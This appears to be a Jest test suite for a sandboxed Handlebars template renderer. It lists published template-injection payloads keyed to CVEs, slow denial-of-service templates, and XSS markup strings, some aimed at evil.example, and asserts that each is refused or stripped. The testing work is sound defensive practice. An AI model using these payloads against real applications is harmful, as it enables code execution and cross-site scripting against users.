import { afterAll, describe, expect, it } from '@jest/globals';
import Handlebars from 'handlebars';
import { findingsOf } from './untrusted-check.js';
import { render } from './untrusted-render.js';
import { renderUntrusted } from './untrusted.js';
import { UntrustedError } from './untrusted-error.js';
import { stopUntrusted } from './untrusted-threads.js';

afterAll(stopUntrusted);

const LOOKS = { kind: 'html', locale: 'en', timeZone: 'UTC', currency: 'EUR' } as const;
/** What an attack would print or leave behind; no source holds it as it stands. */
const CODE = "globalThis.taken = 'ta' + 'ken'; return 40 + 2 + '!taken'";
const TAKEN = /42!taken|taken!/;

/** Published attacks on Handlebars, as their advisories and its own security tests have them, aimed at `CODE`. */
const ATTACKS: Readonly<Record<string, string>> = {
  'GH-1495: the constructor': '{{constructor.constructor}}{{lookup (lookup this "constructor") "name"}}',
  'GH-1495: a function from a string': `{{#with (string.sub.apply 0 "${CODE}")}}{{this}}{{/with}}`,
  'GH-1558: helperMissing called': '{{helperMissing}}',
  'GH-1558: helperMissing as a block': '{{#helperMissing "a" .}}x{{/helperMissing}}',
  'GH-1558: blockHelperMissing called': '{{blockHelperMissing "abc" .}}',
  'GH-1558: blockHelperMissing as a block': '{{#blockHelperMissing .}}x{{/blockHelperMissing}}',
  'GH-1563: __defineGetter__':
    '{{__defineGetter__ "undefined" valueOf}}{{#with __lookupGetter__}}{{__defineGetter__ "propertyIsEnumerable" (this.bind (this.bind 1))}}{{constructor.name}}{{/with}}',
  'GH-1595: __defineGetter__ as a value':
    '{{a.[__proto__]}}{{__proto__}}{{#with __proto__}}{{this}}{{/with}}',
  'GH-1595: __lookupGetter__': '{{lookup this "__lookupGetter__"}}{{lookup this "__proto__"}}',
  'CVE-2019-19919: prototype through with':
    '{{#with "constructor" as |c|}}{{#with (lookup this c)}}{{__proto__.hasOwnProperty}}{{/with}}{{/with}}',
  'CVE-2019-19919: a chain of arrays': `{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "${CODE}"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}`,
  'CVE-2019-20920: lookup by a computed name': `{{#with split as |a|}}{{pop (push "${CODE}")}}{{#with (concat (lookup join (slice 0 1)))}}{{#each (slice 2 3)}}{{#with (apply 0 a)}}{{.}}{{/with}}{{/each}}{{/with}}{{/with}}`,
  'CVE-2021-23369: own property through getOwnPropertyDescriptor':
    '{{#with (__lookupGetter__ "__proto__")}}{{#with (./constructor.getOwnPropertyDescriptor . "valueOf")}}{{#with ../constructor.prototype}}{{../../constructor.defineProperty . "hasOwnProperty" ..}}{{/with}}{{/with}}{{/with}}',
  'CVE-2021-23369: then the function': `{{#with "constructor"}}{{#with split}}{{pop (push "${CODE}")}}{{#with .}}{{#with (concat (lookup join (slice 0 1)))}}{{#each (slice 2 3)}}{{#with (apply 0 ../..)}}{{.}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}`,
  'CVE-2021-23383: a quote in a path': `{{'a/.") || (globalThis.taken = 42) || ("'}}`,
  'CVE-2021-23383: a quote in brackets': `{{[a"] || (globalThis.taken = 42) || ("]}}{{a.['+(globalThis.taken=42)+']}}`,
  'CVE-2026-33916: a partial by a prototype’s name': '{{> toString}}{{> __proto__}}{{> constructor}}',
  'CVE-2026-33938: @partial-block': '{{> @partial-block}}{{#with @partial-block}}{{this}}{{/with}}',
  'CVE-2026-33939: a decorator without a name of its own': '{{*decorate}}',
  'CVE-2026-33939: a block decorator': '{{#*decorate}}x{{/decorate}}',
  'CVE-2026-33940: a dynamic partial': '{{> (lookup . "shape")}}',
  'an inline partial': '{{#*inline "a"}}x{{/inline}}{{> a}}',
  'the log helper': '{{log data}}{{log "x" level="error"}}',
  'the lookup helper': '{{lookup data "secret"}}',
  '@root': '{{@root.secret}}{{#each @root}}{{this}}{{/each}}',
  'other @ values': '{{@key}}{{@level}}{{@partial-block}}{{@root}}',
  'raw output': '{{{link}}}{{& link}}',
  'a raw block': '{{{{raw}}}} {{x}} {{{{/raw}}}}',
  'a helper by brackets': '{{[lookup] data "secret"}}',
  'the constructor by brackets and quotes':
    '{{[constructor]}}{{"constructor"}}{{this.[constructor]}}{{./constructor}}',
  'a name that shadows a prototype': '{{#each list as |constructor|}}{{constructor.constructor}}{{/each}}',
  'a hash with a prototype': '{{number 1 __proto__=data constructor=data}}',
  'loops three deep': '{{#each list}}{{#each ../list}}{{#each ../../list}}x{{/each}}{{/each}}{{/each}}',
  'a sub-expression': '{{default (default link) "x"}}{{#each (join list)}}{{/each}}',
};

const DATA = {
  a: { b: 1 },
  list: [1, 2, 3],
  link: 'javascript:alert(1)',
  secret: 'taken!',
  shape: Handlebars.parse('{{secret}}'),
  data: { secret: 'taken!' },
};

/** A number in a parsed template that is code, as CVE-2026-33937 had it. */
function tampered(): unknown {
  const program = Handlebars.parse('{{number 1}}');
  const [mustache] = program.body as unknown as { params: { value: unknown; original: unknown }[] }[];
  Object.assign(mustache!.params[0]!, { value: '(globalThis.taken=42)', original: '(globalThis.taken=42)' });
  return program;
}

const unchecked = (source: string): string => {
  try {
    return render({
      ...LOOKS,
      source,
      data: structuredClone({ ...DATA, secret: undefined, data: {} }),
      limitBytes: 1e5,
    });
  } catch {
    return '';
  }
};

describe('published attacks on templates', () => {
  it.each(Object.entries(ATTACKS))('%s is refused', async (_name, source) => {
    expect(findingsOf(source)).not.toEqual([]);
    const outcome = await renderUntrusted({ ...LOOKS, owner: 'a', source, data: DATA }, 5_000).catch(
      (error: UntrustedError) => error.code,
    );
    expect(outcome).toBe('forbidden');
  });

  it.each(Object.entries(ATTACKS))('%s runs nothing even where it was not refused', (_name, source) => {
    Reflect.deleteProperty(globalThis, 'taken');
    expect(unchecked(source)).not.toMatch(TAKEN);
    expect(unchecked(source)).not.toContain('native code');
    expect('taken' in globalThis).toBe(false);
    expect(({} as Record<string, unknown>)['hasOwnProperty']).toBe(Object.prototype.hasOwnProperty);
  });

  it('CVE-2026-33937: a parsed template passed off as text is refused, and run by nothing', async () => {
    const ast = tampered() as string;
    expect(findingsOf(ast)).toMatchObject([{ rule: 'U01' }]);
    await expect(renderUntrusted({ ...LOOKS, owner: 'a', source: ast, data: DATA })).rejects.toThrow();
    expect(() => render({ ...LOOKS, source: ast, data: {}, limitBytes: 1e5 })).toThrow('a template is text');
    expect('taken' in globalThis).toBe(false);
    const asText = JSON.stringify(ast);
    expect(await renderUntrusted({ ...LOOKS, kind: 'text', owner: 'a', source: asText, data: {} })).toBe(
      asText,
    );
  });
});

describe('templates made to take long', () => {
  /** Each took the parser alone from half a second to half a minute. */
  const SLOW: Readonly<Record<string, string>> = {
    'blocks in blocks': '{{#if a}}'.repeat(4_000) + '{{/if}}'.repeat(4_000),
    'else after else': `{{#if a}}x${'{{else if a}}'.repeat(4_500)}{{/if}}`,
    'a path without end': `{{a${'.b'.repeat(30_000)}}}`,
    'arguments without end': `{{default ${'a '.repeat(30_000)}}}`,
    'braces alone': '{{'.repeat(30_000),
  };

  it.each(Object.entries(SLOW))(
    '%s neither hold the process nor the next template',
    async (_name, source) => {
      let ticks = 0;
      const timer = setInterval(() => ticks++, 10);
      const outcome = await renderUntrusted({ ...LOOKS, owner: 'a', source, data: {} }, 300).catch(
        (error: UntrustedError) => error.code,
      );
      clearInterval(timer);
      expect(outcome === '' || outcome === 'forbidden' || outcome === 'tooSlow').toBe(true);
      if (outcome === 'tooSlow') expect(ticks).toBeGreaterThan(3);
      expect(await renderUntrusted({ ...LOOKS, owner: 'a', source: 'ok', data: {} }, 5_000)).toBe('ok');
    },
  );

  it('of one owner wait for one another, and those of others go on beside them', async () => {
    const list = Array.from({ length: 3_000 }, () => 1);
    const slow = '{{#each list}}{{#each ../list}}{{#if this}}{{/if}}{{/each}}{{/each}}';
    const order: string[] = [];
    const note = (name: string) => () => void order.push(name);
    const attempt = (owner: string, source: string) =>
      renderUntrusted({ ...LOOKS, owner, source, data: { list } }, 400).catch(() => '');
    const hostile = [1, 2, 3, 4].map((n) => attempt('hostile', slow).then(note(`hostile ${n}`)));
    const others = ['b', 'c'].map((owner) => attempt(owner, 'ok').then(note(owner)));
    await Promise.all([...hostile, ...others]);
    expect(order.indexOf('b')).toBeLessThan(order.indexOf('hostile 2'));
    expect(order.indexOf('c')).toBeLessThan(order.indexOf('hostile 2'));
  });

  it('are turned away once an owner has too many waiting', async () => {
    const many = Array.from({ length: 60 }, () =>
      renderUntrusted({ ...LOOKS, owner: 'a', source: 'ok', data: {} }, 5_000).catch(
        (error: Error) => error.message,
      ),
    );
    const outcomes = new Set(await Promise.all(many));
    expect([...outcomes].sort()).toEqual(['ok', 'too many at once']);
  });
});

describe('markup that staff typed', () => {
  const HOSTILE: readonly string[] = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import "//evil.example/x.css"</style><p style="background:url(//evil.example)">x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button formaction="x">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel="stylesheet" href="x">',
    '<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp>',
    '<p id="x" name="y" class="btn main" data-live="/x" hx-get="/x">x</p>',
  ];

  it.each(HOSTILE)('loses what could run, load or pretend: %s', async (source) => {
    const output = await renderUntrusted({ ...LOOKS, owner: 'a', source, data: {} }, 5_000);
    expect(output).not.toMatch(
      /<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|textarea|xmp|noscript)|\son\w+=|javascript:|data:|evil\.example|hx-|data-|class=|style=|\bid=/i,
    );
  });
});
